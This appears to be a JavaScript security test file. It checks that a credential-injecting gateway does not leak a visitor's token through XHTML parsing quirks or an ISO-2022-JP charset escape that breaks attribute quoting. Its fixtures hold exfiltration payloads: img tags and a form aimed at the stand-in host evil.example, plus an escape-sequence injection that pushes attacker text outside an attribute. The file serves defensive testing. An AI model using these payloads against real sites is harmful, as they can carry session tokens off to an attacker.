// Pages that a browser reads otherwise than the gate reads HTML: XHTML, and a page that takes itself for ISO-2022-JP by a
// `meta`. Whatever somebody wrote into them, the visitor's token stays where it is.

import assert from "node:assert/strict";
import { after, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { theLogHoldsNoCredential } from "../e2e/lib/gateway.mjs";
import { tagged } from "../e2e/lib/luminate.mjs";
import { startBrowser } from "./lib/browser.mjs";
import { startSink } from "./lib/sink.mjs";
import { startSite } from "./lib/site.mjs";

const EVIL = "https://evil.example/?t=";
const TAG = "[[S86:true]]";
const picture = `<img src="${EVIL}${TAG}"/>`;
const xhtml = (body) => ["application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml" xmlns:h="http://www.w3.org/1999/xhtml"><head><title>a page</title></head><body>${body}</body></html>`];
const pages = {
  "/web/title": xhtml(`<title>${picture}</title>`),
  "/web/textarea": xhtml(`<textarea>${picture}</textarea>`),
  "/web/prefixed": xhtml(`<h:form id="sent" action="${EVIL}"><h:input name="own" value="${TAG}"/></h:form>`),
  "/web/section": xhtml(`<p title="<![CDATA[">${picture}</p>`.replace("<![CDATA[", "&lt;![CDATA[")),
  // Between the two escapes every byte is half a letter: the quotes and the end of the tag are gone, and what somebody wrote
  // into the next attribute stands outside of it.
  "/web/escapes": ["text/html", `<!doctype html><meta charset="iso-2022-jp"><title>a page</title><img alt="\x1b$B" src="/x">\x1b(B <p title=" src='${EVIL}">a <b title="${TAG}">b</b> ' ></p>`],
  "/web/control": ["text/html", `<!doctype html><title>a page</title><p id="own">${TAG}</p>`],
};
const [sink, site] = [await startSink(), await startSite(pages)];
const { gateway, address, visit, stop } = await startBrowser(tagged(site.url), sink.flags);
after(async () => (await stop(), sink.stop(), site.stop()));

const { page, context } = await visit();
const form = { method: "login", v: "1.0", api_key: "demo-api-key", user_name: "jo", password: "correct horse battery staple" };
assert.equal((await context.request.post(`${address}/site/CRConsAPI`, { form })).status(), 200);
await page.goto(`${address}/web/control`);
const token = await page.locator("#own").innerText();
gateway.seen.add(token);
gateway.seen.add((await context.cookies(address)).find(({ name }) => name === "JSESSIONID").value);

test("the tag of a page in HTML is expanded", () => assert.match(token, /^[\w.-]{20,}$/));

for (const path of Object.keys(pages).filter((path) => path !== "/web/control")) {
  test(`${path}: the browser does send somebody's text away, and the token is not in it`, async () => {
    sink.take();
    await page.goto(`${address}${path}`);
    await page.evaluate(() => document.getElementById("sent")?.submit());
    let taken = [];
    for (let tries = 0; tries < 50 && taken.length === 0; tries++) {
      await sleep(100);
      taken = sink.take().filter(({ host }) => host === "evil.example");
    }
    assert.ok(taken.length > 0, "the browser reads it as it is meant to be read");
    const all = decodeURIComponent(JSON.stringify(taken));
    assert.ok(all.includes(TAG) && !all.includes(token), all);
  });
}

theLogHoldsNoCredential(gateway);
